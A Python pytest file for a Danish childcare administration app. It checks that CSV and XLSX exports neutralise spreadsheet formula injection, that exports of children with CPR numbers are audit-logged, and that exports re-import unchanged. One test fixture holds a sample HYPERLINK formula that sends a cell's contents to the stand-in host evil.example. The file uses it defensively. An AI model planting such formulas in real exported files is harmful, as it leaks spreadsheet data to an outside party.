"""Export in the import formats: formulas never run, and an export imports unchanged."""

from __future__ import annotations

import csv
import io

import pytest

from sikkerhedsnet.audit.models import AuditEvent
from sikkerhedsnet.conftest import World
from sikkerhedsnet.imports.services import export_file, import_file
from sikkerhedsnet.imports.tests.conftest import xlsx_rows
from sikkerhedsnet.lib.fileformats import FileFormat, get_format
from sikkerhedsnet.lib.spreadsheet_safety import escape_cell, unescape_cell
from sikkerhedsnet.people.models import Child, Enrolment, Role, Unit
from sikkerhedsnet.people.tests import factories as f

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"Klik")', "+1", "-1", "@SUM(A1:A2)"]


def _format(name: str) -> FileFormat[object]:
    file_format = get_format(name)
    assert file_format is not None
    return file_format


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def formula_units(db: None) -> list[Unit]:
    return [f.UnitFactory.create(code=f"F{i}", name=text) for i, text in enumerate(FORMULAS)]


def test_csv_export_quotes_every_cell_that_would_run_as_a_formula(
    formula_units: list[Unit],
) -> None:
    rows = _csv_rows(export_file(actor=None, file_format=_format("units"), file_type="csv"))
    assert rows[0] == ["unit_code", "name", "kind", "district"]
    assert [row[1] for row in rows[1:]] == ["'" + text for text in FORMULAS]


def test_xlsx_export_writes_formulas_as_text_cells(formula_units: list[Unit]) -> None:
    rows = xlsx_rows(export_file(actor=None, file_format=_format("units"), file_type="xlsx"))
    names = [row[1] for row in rows[1:]]
    assert {cell.data_type for row in rows for cell in row} == {"s"}
    assert [cell.value for cell in names] == ["'" + text for text in FORMULAS]


def test_children_export_has_full_cpr_and_is_audited(world: World) -> None:
    admin = world.role_users[Role.ADMINISTRATOR]
    content = export_file(actor=admin, file_format=_format("children"), file_type="csv")
    rows = _csv_rows(content)
    assert [
        world.child.cpr_formatted,
        world.child.first_name,
        world.child.last_name,
        "DAG001",
    ] in rows
    assert len(rows) == 3
    event = AuditEvent.objects.get()
    assert (event.event_type, event.actor, event.extra) == (
        "export.children",
        admin,
        {"file_type": "csv", "rows": 2},
    )


@pytest.mark.parametrize("file_type", ["csv", "xlsx"])
def test_an_export_imports_without_changing_anything(world: World, file_type: str) -> None:
    f.UnitFactory.create(code="F1", name="=1+2", district="-Syd")
    f.EnrolmentFactory.create(unit=world.unit, child__first_name="@Ida", child__last_name="'=x")
    histories = [Unit.history.count(), Child.history.count(), Enrolment.history.count()]
    for name in ("units", "children"):
        content = export_file(actor=None, file_format=_format(name), file_type=file_type)
        report = import_file(actor=None, name=f"{name}.{file_type}", content=content)
        assert report.imported, report.lines()
        changes = {key: count for key, count in report.counts.items() if key != "unchanged"}
        assert set(changes.values()) == {0}, (name, report.counts)
    assert [Unit.history.count(), Child.history.count(), Enrolment.history.count()] == histories


@pytest.mark.parametrize(
    "value",
    ["", "Anna", "=1", "+", "-x", "@a", "\tx", "\rx", "'", "'a", "'=1", "''", "'''=", "a=b"],
)
def test_escaping_is_reversible(value: str) -> None:
    escaped = escape_cell(value)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unescape_cell(escaped) == value
